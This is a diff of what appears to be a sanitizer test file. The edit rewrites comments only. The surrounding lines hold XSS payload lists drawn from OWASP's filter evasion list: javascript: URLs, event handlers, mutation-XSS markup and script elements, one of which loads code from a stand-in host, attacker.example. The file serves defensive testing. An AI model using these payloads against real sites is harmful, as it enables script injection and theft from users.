@@ -1,9 +1,9 @@
 /*
- * HTML that wants to run, load, or leave its place: the families of OWASP's filter evasion list and of the sanitizers'
- * own tests (mutation XSS by namespaces, raw texts and comments), written down here.
+ * HTML that tries to run code, load resources or escape its container: the families of OWASP's filter evasion list and
+ * of the sanitizers' own tests (mutation XSS by namespaces, raw texts and comments).
  */
 
-/** What a browser reads as `javascript:alert(1)` or the like in an attribute. */
+/** Values that browsers read as `javascript:alert(1)` or similar in an attribute. */
 const URLS = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -71,7 +71,7 @@ const HANDLERS = [
   'x:onerror',
 ];
 
-/** What breaks out where a parser that serialises, and a browser that parses that again, see different trees. */
+/** Mutation XSS: markup whose tree changes when a browser parses the serialised form again. */
 const MUTATIONS = [
   '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
@@ -115,7 +115,7 @@ const MUTATIONS = [
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
 ];
 
-/** Elements that run, load, or ask for something. */
+/** Elements that run code, load resources or prompt the user. */
 const ELEMENTS = [
   '<script src="data:,alert(1)"></script>',
   '<script/src=//attacker.example/x></script>',
